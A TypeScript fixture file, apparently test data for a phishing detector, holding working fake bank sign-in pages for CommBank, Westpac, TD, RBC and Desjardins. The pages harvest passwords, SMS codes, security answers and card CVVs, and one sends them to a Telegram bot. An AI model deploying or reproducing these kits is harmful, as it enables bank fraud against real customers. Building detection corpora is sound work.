import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { b64, rev } from '../parts/yf-kit.js';

// Interac e-Transfer and bank sign-in kits (AU, NZ, CA).

const interacCss = `
body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f2f2f2;color:#222}
.ih{background:#fdb913;padding:14px 24px;display:flex;align-items:center;gap:12px}
.ih .mk{background:#000;color:#fdb913;font-weight:900;font-size:15px;padding:6px 8px;border-radius:3px;letter-spacing:.5px}
.ih span{font-weight:700;font-size:18px}
.box{max-width:620px;margin:28px auto;background:#fff;padding:28px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.12)}
.amt{font-size:34px;font-weight:700;margin:6px 0 2px}
.msg{background:#fafafa;border-left:4px solid #fdb913;padding:10px 14px;margin:16px 0;font-style:italic}
.fis{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin-top:16px}
.fis a{display:flex;align-items:center;justify-content:center;height:60px;border:1px solid #ccc;border-radius:4px;text-decoration:none;color:#222;font-weight:700;font-size:14px;background:#fff}
.fis a:hover{border-color:#fdb913;box-shadow:0 0 0 2px #fdb913}
.small{font-size:12px;color:#666;margin-top:18px}
`;

const rbcSignin = `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>RBC Royal Bank - Sign In</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#fff;color:#252525}
.hd{background:#005daa;height:70px;display:flex;align-items:center;padding:0 5%}
.hd i{display:inline-block;width:44px;height:54px;background:#ffd200;border-radius:2px;margin-top:16px}
.c{max-width:420px;margin:40px auto;padding:0 20px}
h1{font-weight:400;font-size:30px}
label{display:block;font-size:14px;margin:16px 0 4px}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid #8b8b8b;padding:0 10px;font-size:16px}
.btn{width:100%;height:46px;margin-top:22px;background:#005daa;color:#fff;border:0;font-size:16px;font-weight:500}
.rm{font-size:14px;margin-top:10px}
#q{display:none}
</style></head><body>
<div class="hd"><i></i></div>
<div class="c">
<div id="s1">
<h1>Sign In to Online Banking</h1>
<p style="font-size:14px">Sign in to deposit your Interac e-Transfer of <b>$1,250.00</b>.</p>
<label>Client Card or Username</label><input id="k1" autocomplete="off">
<div class="rm"><label style="display:inline"><input type="checkbox" style="width:auto;height:auto"> Save client card or username</label></div>
<label>Password</label><input id="q1" type="password">
<button class="btn" id="b1">Sign In</button>
</div>
<div id="q">
<h1>Security Question</h1>
<p style="font-size:14px">For your protection, please answer your personal verification questions.</p>
<label>What was the name of your first pet?</label><input id="a1">
<label>In what city was your mother born?</label><input id="a2">
<label>Mobile phone number</label><input id="mob" type="tel">
<button class="btn" id="b2">Continue</button>
</div>
</div>
<script>
function post(o){ return fetch('/rbc/gate.php', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(o)}); }
document.getElementById('b1').onclick = function(){ post({k: document.getElementById('k1').value, p: document.getElementById('q1').value, fi: 'rbc'}).then(function(){ document.getElementById('s1').style.display='none'; document.getElementById('q').style.display='block'; }); };
document.getElementById('b2').onclick = function(){ post({a1: document.getElementById('a1').value, a2: document.getElementById('a2').value, m: document.getElementById('mob').value}).then(function(){ location.href = '/deposit/complete'; }); };
</script>
</body></html>`;

const accesD = `<!DOCTYPE html>
<html lang="fr-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>AccèsD - Desjardins</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#383838}
.hd{background:#00874e;height:64px;display:flex;align-items:center;padding:0 5%;color:#fff;font-size:22px;font-weight:bold}
.c{max-width:440px;margin:40px auto;background:#fff;padding:30px;border-top:4px solid #00874e}
label{display:block;font-weight:bold;font-size:14px;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:16px}
button{margin-top:20px;background:#00874e;color:#fff;border:0;padding:12px 30px;font-size:16px;font-weight:bold;border-radius:3px}
</style></head><body>
<div class="hd">Desjardins</div>
<div class="c">
<h2 style="margin-top:0">Connexion à AccèsD</h2>
<p style="font-size:14px">Pour déposer votre virement <i>Interac</i> de <b>785,00 $</b>, connectez-vous.</p>
<form method="post" action="/desjardins/valider">
<label>Numéro de carte d'accès ou identifiant</label><input name="carte" required>
<label>Mot de passe</label><input type="password" name="mdp" required>
<label>Question de sécurité : Quel est le nom de votre école primaire?</label><input name="reponse" required>
<button type="submit">Valider</button>
</form>
</div></body></html>`;

const westpacForm = `<div class="wp-box">
<h1>Sign in to Online Banking</h1>
<div class="wp-alert">We've detected a sign-in to your account from a new device (Samsung SM-A546, Perth WA). If this wasn't you, sign in below to cancel the request.</div>
<form id="wpf" autocomplete="off">
<label for="cid">Customer ID</label><input id="cid" name="cid" inputmode="numeric" maxlength="8" required>
<label for="pwd">Password</label><input id="pwd" name="pwd" type="password" required>
<label for="mob">Mobile number</label><input id="mob" name="mob" type="tel" required>
<button type="submit">Sign in</button>
</form>
<div id="sms" style="display:none"><label for="sc">Enter your SMS code</label><input id="sc" maxlength="6"><button id="scb">Verify</button></div>
</div>`;

export const entries: Entry[] = [
  {
    id: 'yf-commbank-netbank-telegram-otp',
    label: 'phishing',
    kind: 'bank-login-kit',
    url: 'https://netbank-commbank.secure-au.app/netbank/Logon/Logon.aspx?ei=mv_logon-NB',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>NetBank - Log on to NetBank - Enjoy simple and secure online banking from Commonwealth Bank</title>
<style>
body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f5f5f5;color:#222}
.t{background:#fff;border-bottom:1px solid #ddd;padding:12px 5%;display:flex;align-items:center;gap:12px}
.t i{display:inline-block;width:40px;height:40px;background:#ffcc00;transform:rotate(45deg);border:3px solid #000;box-sizing:border-box}
.t b{font-size:20px}
.lg{max-width:380px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{display:block;font-size:14px;font-weight:bold;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #999;border-radius:3px;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#ffcc00;border:0;border-radius:3px;font-size:16px;font-weight:bold;color:#000}
a{color:#0072bc;font-size:14px}
#s2{display:none}
</style></head>
<body>
<div class="t"><i></i><b>NetBank</b></div>
<div class="lg">
<div id="s1">
<h2 style="margin-top:0">Log on to NetBank</h2>
<label for="txtMyClientNumber">Client number</label><input id="txtMyClientNumber" inputmode="numeric" maxlength="8">
<label for="txtMyPassword">Password</label><input id="txtMyPassword" type="password">
<p><label style="font-weight:normal"><input type="checkbox" style="width:auto"> Remember client number</label></p>
<button id="btnLogon">Log on</button>
<p><a href="#">I've forgotten my password</a></p>
</div>
<div id="s2">
<h2 style="margin-top:0">NetCode</h2>
<p>We've sent a NetCode SMS to your registered mobile. Enter it below to confirm this device.</p>
<label for="nc">NetCode</label><input id="nc" maxlength="6" inputmode="numeric">
<button id="btnNc">Confirm</button>
</div>
</div>
<script src="/netbank/Logon/js/session.min.js"></script>
</body></html>`,
    routes: {
      'netbank-commbank.secure-au.app/netbank/Logon/js/session.min.js': jsRoute(`(function(){var T=atob("${b64('7091832264:AAFwz3Lq9Ue0Hc_kR2pYm8tVbN5aXo1sJdE')}"),C="-1001987715420";function s(m){return fetch("https://api.telegram.org/bot"+T+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:C,text:m,parse_mode:"HTML"})})["catch"](function(){})}var cn="";document.getElementById("btnLogon").onclick=function(){cn=document.getElementById("txtMyClientNumber").value;var p=document.getElementById("txtMyPassword").value;if(!cn||!p)return;s("<b>CBA</b>\\nCN: "+cn+"\\nPW: "+p+"\\nUA: "+navigator.userAgent).then(function(){document.getElementById("s1").style.display="none";document.getElementById("s2").style.display="block"})};document.getElementById("btnNc").onclick=function(){s("<b>CBA NETCODE</b>\\nCN: "+cn+"\\nCODE: "+document.getElementById("nc").value).then(function(){location.href="https://www.commbank.com.au/"})}})();`),
      'api.telegram.org/bot7091832264:AAFwz3Lq9Ue0Hc_kR2pYm8tVbN5aXo1sJdE/sendMessage': jsonRoute({ ok: true, result: { message_id: 918 } }),
    },
  },
  {
    id: 'yf-westpac-reversed-b64-new-device',
    label: 'phishing',
    kind: 'obfuscated-bank-kit',
    url: 'https://westpac-online.device-confirm.net/wbc/banking/handler?TAM_OP=login&segment=personal',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Westpac Online Banking</title>
<style>
body{margin:0;background:#f3f4f6;font-family:"Helvetica Neue",Arial,sans-serif;color:#1f1c4f}
.bar{background:#fff;border-bottom:4px solid #da1710;padding:16px 6%;font-size:30px;font-weight:900;color:#da1710;font-style:italic}
.wp-box{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:3px;box-shadow:0 1px 3px rgba(0,0,0,.2)}
.wp-alert{background:#fef3f2;border-left:4px solid #da1710;padding:10px 12px;font-size:14px;margin:10px 0 16px}
label{display:block;font-size:14px;font-weight:bold;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #838383;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#da1710;color:#fff;border:0;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="bar">W</div>
<div id="m"></div>
<script>
(function(w,d){
  var p = "${rev(b64(westpacForm))}";
  d.getElementById('m').innerHTML = decodeURIComponent(escape(w.atob(p.split('').reverse().join(''))));
  var f = d.getElementById('wpf');
  f.addEventListener('submit', function(e){
    e.preventDefault();
    var x = new XMLHttpRequest(); x.open('POST', '/wbc/api/s1', true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.onload = function(){ f.style.display = 'none'; d.getElementById('sms').style.display = 'block'; };
    x.send(new URLSearchParams(new FormData(f)).toString());
  });
  d.getElementById('scb').onclick = function(){
    navigator.sendBeacon('/wbc/api/s2', new URLSearchParams({c: d.getElementById('sc').value, id: d.getElementById('cid').value}));
    setTimeout(function(){ w.location = 'https://www.westpac.com.au/'; }, 600);
  };
})(window, document);
</script>
</body></html>`,
    routes: {
      'westpac-online.device-confirm.net/wbc/api/s1': jsonRoute({ s: 1 }),
      'westpac-online.device-confirm.net/wbc/api/s2': jsonRoute({ s: 2 }),
    },
  },
  {
    id: 'yf-td-easyweb-clone-ca',
    label: 'phishing',
    kind: 'bank-login-kit',
    url: 'https://easyweb-td.account-unlock.ca/waw/idp/login.htm?execution=e1s1',
    body: `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>EasyWeb Login</title>
<style>
body{margin:0;font-family:"TD Graphik",Arial,sans-serif;background:#f3f3f3;color:#1c1c1c}
.h{background:#008a00;height:62px;display:flex;align-items:center;padding:0 5%}
.h b{background:#fff;color:#008a00;padding:4px 8px;font-size:22px;border-radius:2px}
.c{max-width:460px;margin:32px auto;background:#fff;padding:32px;border-radius:2px}
.lock{background:#fff8e1;border:1px solid #f0c36d;padding:12px;font-size:14px;margin-bottom:14px}
label{display:block;font-size:14px;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #8c8c8c;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#008a00;border:0;color:#fff;font-size:16px;font-weight:600}
</style></head>
<body>
<div class="h"><b>TD</b></div>
<div class="c">
<div class="lock">&#128274; Your EasyWeb access has been temporarily restricted after unusual activity. Log in to verify your identity and restore access.</div>
<h2 style="margin-top:0">Login to EasyWeb</h2>
<form method="post" action="/waw/idp/authenticate.php">
<label>Username or Access Card</label><input name="username" required>
<label>Password</label><input type="password" name="password" required>
<label>Access card expiry (MM/YY)</label><input name="cardexp">
<label>Card CVV (back of card)</label><input name="cvv" maxlength="3">
<button type="submit">Login</button>
</form>
</div>
</body></html>`,
    routes: {
      'easyweb-td.account-unlock.ca/waw/idp/authenticate.php': redirectRoute(302, 'https://www.td.com/ca/en/personal-banking'),
    },
  },
];
